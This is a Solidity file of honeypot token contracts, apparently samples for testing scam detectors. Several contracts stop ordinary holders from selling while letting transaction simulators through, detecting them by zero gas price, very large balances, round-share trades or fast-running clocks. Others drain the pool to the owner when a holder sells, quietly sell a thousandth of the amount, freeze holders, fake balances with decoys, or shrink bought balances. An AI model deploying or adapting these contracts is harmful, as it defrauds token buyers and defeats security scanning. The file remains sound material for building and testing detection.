// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";

interface IPairView {
    function getReserves() external view returns (uint112, uint112, uint32);
    function token0() external view returns (address);
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
}

/// Tokens that behave in front of an examiner and not otherwise. Each knows examiners by another sign.
abstract contract Evasion is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal virtual override {
        if (from == pair) _noteBuyer(to);
        if (to == pair && from != owner) require(_isExaminer(from), "only examiners sell");
        _move(from, to, amount);
    }

    function _noteBuyer(address) internal virtual {}

    function _isExaminer(address) internal view virtual returns (bool);

    function _paidIn() internal view returns (uint256 paid, uint256 reserve) {
        IPairView pool = IPairView(pair);
        (uint112 reserve0, uint112 reserve1,) = pool.getReserves();
        bool quoteFirst = pool.token0() != address(this);
        reserve = quoteFirst ? reserve0 : reserve1;
        address quote = quoteFirst ? pool.token0() : IQuote(pair).token1();
        paid = Erc20(quote).balanceOf(pair) - reserve;
    }
}

interface IQuote {
    function token1() external view returns (address);
}

/// Simulated transactions often cost nothing.
contract FreeGasEvasion is Evasion {
    constructor(string memory n, string memory s, address p) Evasion(n, s, p) {}

    function _isExaminer(address) internal view override returns (bool) {
        return tx.gasprice == 0;
    }
}

/// Simulated accounts are often absurdly rich.
contract RichAccountEvasion is Evasion {
    constructor(string memory n, string memory s, address p) Evasion(n, s, p) {}

    function _isExaminer(address) internal view override returns (bool) {
        return tx.origin.balance > 100_000 ether;
    }
}

/// Test trades are often a round share of the pool.
contract RoundShareEvasion is Evasion {
    mapping(address => bool) private _examiners;

    constructor(string memory n, string memory s, address p) Evasion(n, s, p) {}

    function _noteBuyer(address buyer) internal override {
        (uint256 paid, uint256 reserve) = _paidIn();
        for (uint256 share = 10; share <= 10_000; share *= 10) {
            if (paid == reserve / share || paid == reserve / (2 * share)) _examiners[buyer] = true;
        }
    }

    function _isExaminer(address seller) internal view override returns (bool) {
        return _examiners[seller];
    }
}

/// Simulated time often passes without the blocks that belong to it.
contract FastClockEvasion is Evasion {
    mapping(address => uint256) private _boughtAtTime;
    mapping(address => uint256) private _boughtAtBlock;

    constructor(string memory n, string memory s, address p) Evasion(n, s, p) {}

    function _noteBuyer(address buyer) internal override {
        _boughtAtTime[buyer] = block.timestamp;
        _boughtAtBlock[buyer] = block.number;
    }

    function _isExaminer(address seller) internal view override returns (bool) {
        uint256 waited = block.timestamp - _boughtAtTime[seller];
        return waited > 60 && (block.number - _boughtAtBlock[seller]) * 20 < waited;
    }
}

/// Ruins the price inside the seller's own transfer, so that nothing is taken and nothing comes back.
contract DumpingToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) _dump();
        _move(from, to, amount);
    }

    function _dump() private {
        IPairView pool = IPairView(pair);
        (uint112 reserve0, uint112 reserve1,) = pool.getReserves();
        bool tokenFirst = pool.token0() == address(this);
        (uint256 ours, uint256 theirs) =
            tokenFirst ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        uint256 made = ours * 1000;
        _balances[pair] += made;
        uint256 paid = (made * 997 * theirs) / (ours * 1000 + made * 997);
        pool.swap(tokenFirst ? 0 : paid, tokenFirst ? paid : 0, owner, "");
    }
}

/// Sells a thousandth of what was asked and keeps quiet about the rest.
contract PartialSaleToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, to == pair && from != owner ? amount / 1000 : amount);
    }
}

/// Balances that nobody finds in storage, and three ways to use that.
abstract contract SaltedToken {
    string public name;
    string public symbol;
    uint256 public constant totalSupply = 1_000_000 ether;
    uint8 public constant decimals = 18;
    mapping(address => mapping(address => uint256)) public allowance;
    address public immutable pair;
    address internal immutable _boss = msg.sender;
    mapping(bytes32 => uint256) internal _salted;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, address pair_) {
        name = name_;
        symbol = symbol_;
        pair = pair_;
        _salted[_key(msg.sender)] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _salted[_key(account)];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "not allowed");
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _salted[_key(from)] -= amount;
        _salted[_key(to)] += amount;
        emit Transfer(from, to, amount);
    }

    function _key(address account) internal pure returns (bytes32) {
        return keccak256(abi.encodePacked(account, "salt"));
    }
}

/// Only its maker and the pool can send.
contract FrozenToken is SaltedToken {
    constructor(string memory n, string memory s, address p) SaltedToken(n, s, p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from == _boss || from == pair, "frozen");
        super._transfer(from, to, amount);
    }
}

/// As FrozenToken, but who was given a balance by way of storage can send.
contract DecoyToken is SaltedToken {
    mapping(address => uint256) private _decoys;

    constructor(string memory n, string memory s, address p) SaltedToken(n, s, p) {}

    function balanceOf(address account) public view override returns (uint256) {
        return _decoys[account] + super.balanceOf(account);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_decoys[from] >= amount && amount > 0) {
            _decoys[from] -= amount;
            _decoys[to] += amount;
            return;
        }
        require(from == _boss || from == pair, "frozen");
        super._transfer(from, to, amount);
    }
}

/// What was bought is a hundredth of it in the next block.
contract MeltingToken is SaltedToken {
    mapping(address => uint256) private _boughtAt;

    constructor(string memory n, string memory s, address p) SaltedToken(n, s, p) {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 whole = super.balanceOf(account);
        return _boughtAt[account] != 0 && block.number > _boughtAt[account] ? whole / 100 : whole;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _settle(from);
        _settle(to);
        super._transfer(from, to, amount);
        if (from == pair) _boughtAt[to] = block.number;
    }

    function _settle(address account) private {
        _salted[_key(account)] = balanceOf(account);
        _boughtAt[account] = 0;
    }
}
